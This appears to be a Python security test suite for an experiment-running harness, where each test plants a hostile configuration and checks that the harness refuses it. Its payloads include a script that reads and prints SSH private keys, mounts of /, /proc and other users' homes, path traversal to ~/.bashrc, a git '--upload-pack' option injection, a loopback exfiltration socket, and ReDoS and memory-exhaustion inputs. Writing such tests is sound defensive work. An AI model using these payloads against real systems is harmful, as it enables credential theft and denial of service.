"""What a contract names: paths, interpreters, commands, patterns, limits."""

import re
import time

from hostile.attack import Attacks
from hostile.opened import command
from hostile.suite import Harmless

ATTACKS = attack = Attacks()
SCORE = 'command = ["python", "-S", "-E", "score.py"]\n'
OUTPUT = 'worthwhile = 0.01\nfrom = "output"\npattern = {pattern!r}\n'
LOUD = "import os, settings\nopen(os.environ['OVERNIGHT_OUT'] + '/x', 'w').write('1')\nprint('a' * 40 + '!')\n"
STEALS = """\
import os, pathlib
found = [p.read_text() for p in pathlib.Path('/').glob({pattern!r}) if p.is_file()]
print(found)
with open(os.environ["OVERNIGHT_OUT"] + "/x", "w") as out:
    out.write(found[0] if found else "1")
"""


class TestContracts(Harmless):
    """A contract is a stranger's wish."""


def with_data(scene, *paths, more=""):
    """A contract that names data, and a candidate that prints what it finds there."""
    names = ", ".join(f'"{path}"' for path in paths)
    scene.contract(("[run]\n", f"[run]\ndata = [{names}]\n{more}"), **{"run.py": STEALS.format(pattern=f"{str(scene.home)[1:]}/.ssh/*")})


def granted(*names):
    """A control: the victim grants everything; what the commands then say, or send, is the victim's secret."""
    def control(scene):
        said = [command(scene, name, scene.repo, 10).said for name in ("trust --yes", *names)]
        return scene.leaked(b"".join(said)) or scene.came() is not None
    return control


@attack("run", "try", "trust", "audit", says="not granted", control=granted("check", "run"))
def data_in_the_home(scene):
    """The victim's keys are mounted as data and come out in a log"""
    with_data(scene, "~/.ssh")


@attack("run", "trust", says="would open")
def data_above_the_repository(scene):
    """The victim's whole home is mounted as data"""
    with_data(scene, "../..")


@attack("run", "trust", says="not granted")
def data_of_another_user(scene):
    """The home of another user is mounted as data"""
    with_data(scene, "~root")


@attack("run", "trust --yes", says="holds the data alone")
def data_are_everything(scene):
    """The whole machine is mounted as data, though its user says yes to everything"""
    with_data(scene, "/")


@attack("run", "trust --yes", says="holds the data alone")
def data_of_the_kernel(scene):
    """The host's processes are mounted as data, with their environments"""
    with_data(scene, "/proc")


@attack("run", "trust --yes", says="overnight:")
def data_with_odd_names(scene):
    """A name with a line break, an escape or a NUL is data"""
    with_data(scene, "a\\nb", "\\u001b[2Jdata", "\\u0000")


@attack("trust --yes", "check", "run", says="would open")
def data_that_hold_the_journal_s_key(scene):
    """The state folder is mounted as data, with the key that foretells every seed, though its user says yes"""
    with_data(scene, "~/.local/state")


def with_python(scene, python):
    scene.contract(("[run]\n", f'[run]\npython = "{python}"\n'))


@attack("run", "trust --yes", says="not the interpreter")
def interpreter_of_the_kernel(scene):
    """The harness's environment is taken for an interpreter, and /proc mounted"""
    with_python(scene, "/proc/self/environ")


@attack("run", "trust --yes", says="not the interpreter")
def interpreter_in_etc(scene):
    """All of /etc is mounted as the installation of an interpreter"""
    with_python(scene, "/etc/ssh/ssh_config")


@attack("run", "trust --yes", says="overnight:")
def interpreter_in_the_home(scene):
    """The victim's home is mounted as the installation of an interpreter"""
    (scene.home / "lib/python3").mkdir(parents=True)
    scene.program(scene.home / "bin/python")
    with_python(scene, "~/bin/python")


@attack("run", "trust", says="not granted", control=lambda scene: scene.plainly("venv/bin/python") is not None and list(scene.ran.iterdir()))
def interpreter_that_came_along(scene):
    """A virtual environment in the tree runs a program of its own as python"""
    scene.program(scene.repo / "venv/bin/python")
    (scene.repo / "venv/lib/python3.11").mkdir(parents=True)
    scene.commit({"venv/pyvenv.cfg": "home = /usr/bin\n", "venv/lib/python3.11/x.py": "", ".gitignore": ""})
    with_python(scene, "venv")


@attack("run", "trust --yes", says="leaves the folder")
def private_file_above_the_repository(scene):
    """A key is given to the scorer as a private file"""
    scene.contract((SCORE, f'{SCORE}private = ["../../.ssh/id_ed25519"]\n'))


@attack("run", "trust --yes", says="leaves the folder")
def holdout_by_its_whole_path(scene):
    """A key is given to the scorer as the holdout"""
    scene.contract((SCORE, f'{SCORE}holdout = "{scene.key}"\n'))


@attack("run", "brief", "try", says="leaves the folder")
def editable_file_above_the_repository(scene):
    """The victim's start-up file may be edited"""
    scene.contract(('editable = ["settings.py"]', 'editable = ["../../.bashrc", "settings.py"]'))


@attack("run", "brief", says="matches no file")
def editable_git_folder(scene):
    """The configuration of the repository may be edited"""
    scene.contract(('editable = ["settings.py"]', 'editable = [".git/**"]'))


@attack("run", says="not ready")
def programs_of_the_host(scene):
    """A program of the victim's machine is the candidate's, outside of any sandbox"""
    program = scene.program(scene.home / "bin/steal")
    scene.contract(('["python", "-S", "-E", "run.py"]', f'["{program}"]'))


@attack("run", says="not ready", control=lambda scene: scene.plainly("./steal") is not None and list(scene.ran.iterdir()))
def programs_of_the_tree(scene):
    """A program in the tree is the scorer, and leaves a trace on the host"""
    scene.program(scene.repo / "steal")
    scene.contract((SCORE, 'command = ["./steal"]\n'))


@attack("run", says="not ready", control=lambda scene: scene.plainly("python3", "run.py") is not None and scene.came() is not None)
def loopback_to_the_host(scene):
    """A candidate whose network is its own speaks to a server of the host"""
    text = f"import socket\nsocket.create_connection(('127.0.0.1', {scene.port}), 5).send(b'stolen')\n"
    scene.contract(("[run]\n", '[run]\nnetwork = "loopback"\n'), **{"run.py": text})


@attack("run", "trust", says="GPUs")
def gpus(scene):
    """The machine's GPUs are used without a question"""
    scene.contract(("[run]\n", "[run]\ngpus = true\n"))


def slow(pattern, text):
    """A control: the regular expression of the standard library takes long on a text of 24 letters; seconds."""
    began = time.monotonic()
    re.search(pattern, text)
    return time.monotonic() - began


@attack("run", control=lambda scene: slow("^(a+)+$", "a" * 22 + "!") > 20 * slow("^a+$", "a" * 22 + "!"))
def pattern_of_the_metric(scene):
    """The harness hangs in a regular expression over the candidate's output"""
    text = LOUD + "print('loss: 1')\n"
    scene.contract(("worthwhile = 0.01\n", OUTPUT.format(pattern=r"^(a+)+$|^loss: (?:\S+)")), **{"run.py": text})


@attack("run")
def pattern_of_the_progress(scene):
    """The harness hangs in a regular expression over the candidate's progress"""
    scene.contract(("[run]\n", "[progress]\npattern = '^(?:a|a)*(\\d)(\\d)$'\n\n[run]\n"), **{"run.py": LOUD})


@attack("run", says="no regular expression")
def pattern_too_large_to_compile(scene):
    """Compiling a regular expression takes all memory"""
    pattern = "(" + "(?:a{1,999}){1,999}" * 20 + ")"
    scene.contract(("worthwhile = 0.01\n", OUTPUT.format(pattern=pattern)))


@attack("run", "trust", "brief", says="overnight:")
def limits_beyond_all_measure(scene):
    """Numbers that no machine has overflow in the harness"""
    scene.contract(('timeout = "10s"\nmemory = "256MiB"\n\n[score]',
                    'timeout = "99999999999999h"\nmemory = "99999999999TiB"\ncpus = 9223372036854775807\n'
                    'processes = 99999999999999999999\n\n[score]'))


@attack("run", says="overnight:")
def a_thousand_cores(scene):
    """More cores are wanted than there are"""
    scene.contract(("[run]\n", "[run]\ncpus = 4096\nprocesses = 1000000000\ndisk = \"900000GiB\"\n"))


@attack("run", "merge", says="branch name")
def name_that_leads_elsewhere(scene):
    """The track's name makes its result branch another branch"""
    scene.contract(('name = "little"', 'name = "../../main"'))


@attack("run", "merge", says="branch name")
def name_that_is_an_option(scene):
    """The track's name is an option of git"""
    scene.contract(('name = "little"', 'name = "--upload-pack=steal"'))


@attack("run", "brief", "trust", says="overnight:")
def contract_that_nests(scene):
    """Brackets a hundred thousand deep exhaust the stack of the reader"""
    scene.commit({"track.toml": "x = " + "[" * 100_000})


@attack("run", "brief", "trust", says="larger than")
def contract_of_a_gigabyte(scene):
    """A contract takes all memory"""
    with open(scene.repo / "track.toml", "wb") as file:
        file.truncate(1 << 30)
